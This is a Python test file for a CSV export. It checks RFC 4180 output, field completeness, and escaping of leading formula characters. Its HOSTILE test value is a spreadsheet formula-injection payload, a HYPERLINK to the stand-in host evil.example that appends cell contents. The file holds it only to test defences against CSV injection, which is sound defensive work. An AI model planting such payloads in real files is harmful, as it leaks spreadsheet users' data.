"""The export in CSV is RFC 4180, has every field, and no cell that a spreadsheet takes for a formula."""

import csv
import io

import pytest

from api.exports.csv import safe_cell
from models import RESOURCES
from tests.api.past import past_of
from tests.cases import each
from tests.exports.exporting import read_index, read_lines, run_export

HOSTILE = '=HYPERLINK("https://evil.example/?"&A1;"Click")\nsecond line, "quoted";\tand \\u0000 \u202eRTL'


@pytest.fixture
def past(database):
    with past_of(database) as past:
        yield past


def read_csv(folder, name):
    text = (folder / name).read_bytes().decode()
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_it_has_every_item_and_its_references(past, tmp_path):
    past.change("line", text=HOSTILE, label="@SUM(1+1)")
    lines = run_export(past.database, tmp_path / "ndjson")
    folder = run_export(past.database, tmp_path / "csv", "csv")
    for model in RESOURCES:
        rows = read_csv(folder, f"{model.__tablename__}.csv")
        items = read_lines(lines, f"{model.__tablename__}.ndjson")
        assert [row["id"] for row in rows] == [item["id"] for item in items]
        for row, item in zip(rows, items, strict=True):
            assert row["revision"] == str(item["revision"])
            assert {"links", "type"}.isdisjoint(row)
            assert row.get("film_id", "") == (item["film"]["id"] if item.get("film") else "")
    (row,) = [row for row in read_csv(folder, "quotes.csv") if row["id"].endswith("lamp-on")]
    assert (row["text"], row["label"]) == (f"'{HOSTILE}", "'@SUM(1+1)")
    assert (row["themes"], row["advisories"]) == ("light", "crude 2")
    assert row["citations"] == "on-the-lamp [2]"
    assert row["omitted_before"] == "0"
    content = (folder / "quotes.csv").read_bytes()
    assert content.count(b"\r\n") == len(read_lines(lines, "quotes.ndjson")) + 1
    assert read_index(folder)["files"][0]["content"] == "items"


@each("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_a_formula_begins_with_an_apostrophe(start):
    assert safe_cell(f"{start}1") == f"'{start}1"


@each("value, cell", [(None, ""), ("", ""), ("a=1", "a=1"), (0, "0"), ("'tis", "'tis")])
def test_other_values_are_as_they_are(value, cell):
    assert safe_cell(value) == cell
